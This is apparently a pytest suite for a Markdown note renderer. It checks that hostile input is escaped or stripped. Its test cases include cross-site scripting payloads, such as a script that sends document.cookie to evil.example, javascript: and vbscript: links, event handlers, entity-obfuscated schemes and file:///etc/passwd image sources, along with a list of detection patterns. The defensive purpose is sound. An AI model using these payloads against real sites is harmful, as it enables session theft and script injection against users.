"""A note is shown as its writer meant it, and a hostile note can neither run nor fetch anything."""

from __future__ import annotations

import re
import threading
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from handover.brief.markdown import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    LINK_SCHEMES,
    markdown_to_plain,
    render_markdown,
)


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.elements


ACTIVE_MARKUP = [
    re.compile(r"<\s*(script|style|iframe|img|svg|form|object|embed|link|meta|base)\b", re.I),
    re.compile(r"<[^>]*\son\w+\s*=", re.I),  # an event handler inside a tag
    re.compile(r"<[^>]*\s(src|style|srcset|background|formaction|action)\s*=", re.I),
]


def assert_inert(html: str) -> None:
    """Nothing in `html` can run, fetch, or style itself: only listed tags, attributes, links."""
    for pattern in ACTIVE_MARKUP:
        assert not pattern.search(html), (pattern.pattern, html)
    for tag, attrs in elements(html):
        assert tag in ALLOWED_TAGS, (tag, html)
        for name, value in attrs.items():
            if tag == "a" and name == "rel":
                assert value == "noopener noreferrer"
                continue
            if tag in ("td", "th") and name == "align":
                assert value in ("left", "right", "center")
                continue
            assert name in ALLOWED_ATTRIBUTES.get(tag, ()), (tag, name, html)
            if name == "href":
                scheme = (value or "").split(":", 1)[0].strip().lower()
                assert scheme in LINK_SCHEMES, (value, html)


# ---- a hostile note


@pytest.mark.parametrize(
    "note, harmless_text",
    [
        ("Before <script>alert(1)</script> after", "after"),
        ("<script>\nfetch('http://evil.example/?c=' + document.cookie)\n</script>\n\nReal note.",
         "Real note."),
        ('<a href="javascript:alert(1)">pay now</a>', "pay now"),
        ('<div onclick="steal()">Renewal is safe</div>', "Renewal is safe"),
        ('<img src="file:///etc/passwd">', "passwd"),
        ('<img src=x onerror=alert(1)>', "onerror"),
        ("<iframe src=\"https://evil.example\"></iframe>Budget frozen", "Budget frozen"),
        ("<style>body { display: none }</style>Call the CFO", "Call the CFO"),
        ('<svg onload="alert(1)"><circle r="9"/></svg>Angry buyer', "Angry buyer"),
        ('<form action="https://evil.example"><input name="pw"></form>Login', "Login"),
        ('<a href="vbscript:msgbox(1)">old trick</a>', "old trick"),
        ('<table><tr><td style="background:url(http://evil.example/t.png)">x</td></tr></table>',
         "x"),
        ('<link rel="stylesheet" href="http://evil.example/s.css">', "stylesheet"),
        ("<!-- <script>alert(1)</script> -->", "alert(1)"),
    ],
)
def test_raw_html_in_a_note_is_shown_as_the_text_that_was_typed(note, harmless_text):
    html = render_markdown(note)

    assert_inert(html)
    assert "&lt;" in html  # the tag is there for the reader to see, as characters
    assert harmless_text in markdown_to_plain(note)


@pytest.mark.parametrize(
    "note",
    [
        "[pay now](javascript:alert(1))",
        "[pay now](JAVASCRIPT:alert(1))",
        "[pay now]( javascript:alert(1))",
        "[pay now](&#106;avascript:alert(1))",
        "[pay now](&#x6A;avascript&#58;alert(1))",
        "[pay now](java&#x09;script:alert(1))",
        "[pay now](vbscript:msgbox(1))",
        "[pay now](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[pay now](file:///etc/passwd)",
        "[pay now](../../../etc/passwd)",
        "[pay now](//evil.example/x)",
        "[pay now][ref]\n\n[ref]: javascript:alert(1)",
    ],
)
def test_a_link_that_is_not_web_or_mail_keeps_its_words_and_loses_its_target(note):
    html = render_markdown(note)

    assert_inert(html)
    assert "href" not in html
    for payload in ("javascript", "vbscript", "data:", "file:", "passwd", "evil"):
        assert payload not in html.lower()
    assert markdown_to_plain(note) == "pay now"


@pytest.mark.parametrize(
    "note",
    [
        "![](http://evil.example/track.png)",
        "![tracking pixel](https://evil.example/track.png?user=42)",
        "![passwords](file:///etc/passwd)",
        "![x](data:image/png;base64,iVBORw0KGgo=)",
        "![ref image][pic]\n\n[pic]: http://evil.example/track.png",
        "[![logo](http://evil.example/logo.png)](https://example.com)",
    ],
)
def test_an_image_is_never_fetched_only_its_alt_text_is_shown(note):
    html = render_markdown(note)

    assert_inert(html)
    assert "<img" not in html
    assert "src=" not in html
    assert "evil.example" not in html and "passwd" not in html.replace("passwords", "")


def test_the_alt_text_stands_where_the_image_was():
    note = "Org chart: ![the CFO reports to the COO](https://intranet.example/org.png) (2024)"

    assert markdown_to_plain(note) == "Org chart: the CFO reports to the COO (2024)"


def test_someone_typing_html_sees_what_they_typed():
    assert render_markdown("<b>hi</b> & <Customer> id") == (
        "<p>&lt;b&gt;hi&lt;/b&gt; &amp; &lt;Customer&gt; id</p>")
    assert markdown_to_plain("<b>hi</b> & <Customer> id") == "<b>hi</b> & <Customer> id"


def test_an_entity_cannot_smuggle_a_tag_in():
    html = render_markdown("&#60;script&#62;alert(1)&#60;/script&#62; &lt;img src=x&gt;")

    assert_inert(html)
    assert markdown_to_plain("&#60;script&#62;alert(1)&#60;/script&#62;") == (
        "<script>alert(1)</script>")


# ---- an ordinary note


def test_emphasis_renders():
    assert render_markdown("The buyer is **angry**, *again*, and ~~calm~~ upset.") == (
        "<p>The buyer is <strong>angry</strong>, <em>again</em>, and <del>calm</del> upset.</p>")


def test_a_line_break_in_a_note_is_a_line_break():
    assert render_markdown("Called Marta\nShe hung up") == "<p>Called Marta<br>\nShe hung up</p>"


def test_lists_render_and_an_ordered_list_keeps_its_start():
    html = render_markdown("- volume bonus\n- net 60\n\n3. ask for a 3-year term\n4. hold prices")

    assert "<ul>\n<li>volume bonus</li>\n<li>net 60</li>\n</ul>" in html
    assert '<ol start="3">' in html
    assert "<li>hold prices</li>" in html


def test_a_table_renders_with_its_alignment():
    html = render_markdown("| Concession | Value |\n|:--|--:|\n| Discount | 48,000 |")

    assert_inert(html)
    assert '<th align="left">Concession</th>' in html
    assert '<td align="right">48,000</td>' in html
    assert "style" not in html


def test_a_web_link_is_kept_and_opens_without_telling_the_site_where_it_came_from():
    html = render_markdown('See [the plan](https://intranet.example/plan "Q3 plan").')

    assert html == ('<p>See <a href="https://intranet.example/plan" title="Q3 plan" '
                    'rel="noopener noreferrer">the plan</a>.</p>')


def test_web_and_mail_autolinks_are_kept():
    html = render_markdown("<http://example.com/a?b=1&c=2> or <ops@example.com>")

    assert_inert(html)
    assert 'href="http://example.com/a?b=1&amp;c=2"' in html
    assert 'href="mailto:ops@example.com"' in html


def test_code_is_shown_not_interpreted():
    html = render_markdown("```python\n<script>alert(1)</script>\n```\n\nand `<b>` inline")

    assert_inert(html)
    assert "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;\n</code></pre>" in html
    assert "<code>&lt;b&gt;</code>" in html
    assert "class=" not in html


def test_headings_can_sit_below_the_page_around_them():
    assert render_markdown("# Story\n## Outage") == "<h1>Story</h1>\n<h2>Outage</h2>"
    assert render_markdown("# Story\n## Outage", top_heading=3) == "<h3>Story</h3>\n<h4>Outage</h4>"
    assert render_markdown("##### Deep", top_heading=3) == "<h6>Deep</h6>"
    with pytest.raises(ValueError, match="top_heading"):
        render_markdown("# x", top_heading=0)


def test_a_quote_and_a_rule_render():
    assert render_markdown("> You'll have to do better\n\n---") == (
        "<blockquote>\n<p>You'll have to do better</p>\n</blockquote>\n<hr>")


def test_an_empty_note_renders_to_nothing():
    assert render_markdown("") == ""
    assert render_markdown("  \n\t") == ""
    assert markdown_to_plain("") == ""


def test_one_note_does_not_leak_into_the_next():
    # The Markdown instance is reused; a link definition must not carry over.
    render_markdown("[plan][p]\n\n[p]: https://example.com/plan")

    assert "href" not in render_markdown("[plan][p]")
    assert render_markdown("# Story", top_heading=2) == "<h2>Story</h2>"
    assert render_markdown("# Story") == "<h1>Story</h1>"


def test_notes_render_side_by_side_in_threads():
    # Batch export renders off the GUI thread while the screen renders too.
    results: dict[int, list[str]] = {}

    def render(n: int) -> None:
        results[n] = [render_markdown(f"**note {n}-{i}**") for i in range(200)]

    threads = [threading.Thread(target=render, args=(n,)) for n in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    for n, rendered in results.items():
        assert rendered == [f"<p><strong>note {n}-{i}</strong></p>" for i in range(200)]


# ---- plain text, for search snippets and table cells


def test_plain_text_drops_formatting_and_keeps_one_block_a_line():
    note = ("## Where things stand\n\nThe buyer is **angry**; see [the plan](https://x.example).\n"
            "\n- root cause by *15 May*\n- 12% discount\n\n| a | b |\n|--|--|\n| 1 | 2 |\n\n"
            "```\nline 1\nline 2\n```")

    assert markdown_to_plain(note) == (
        "Where things stand\nThe buyer is angry; see the plan.\nroot cause by 15 May\n"
        "12% discount\na b\n1 2\nline 1\nline 2")


def test_plain_text_of_escaped_characters_is_what_the_reader_sees():
    assert markdown_to_plain(r"5 \* 3 &amp; A&amp;amp;B") == "5 * 3 & A&amp;B"


# ---- anything at all


HOSTILE_PIECES = [
    "<", ">", "</", "/>", "=", '"', "'", "`", "&", "&#", ";", ":", "#", "x", "60", "106", " ",
    "\n", "\n\n", "    ", "(", ")", "[", "]", "!", "*", "_", "~~", "|", "-", "> ", "```",
    "script", "SCRIPT", "img", "svg", "iframe", "style", "a", "href", "src", "onload", "onclick",
    "onerror", "javascript", "JaVaScRiPt", "vbscript", "data", "file", "http", "//", "alert(1)",
    "![", "](", "[x]: ", "<a ", "<img ", "<script>", "<svg/onload=", " src=", "&#106;",
]


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(HOSTILE_PIECES), max_size=40).map("".join))
def test_no_arrangement_of_hostile_pieces_produces_active_content(note):
    assert_inert(render_markdown(note))
    markdown_to_plain(note)


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_any_text_renders_inert(note):
    html = render_markdown(note)

    assert_inert(html)
    assert "<script" not in html.lower()
    assert not re.search(r"<[^>]*\son\w+=", html)
    assert not re.search(r"<[^>]*\ssrc=", html)
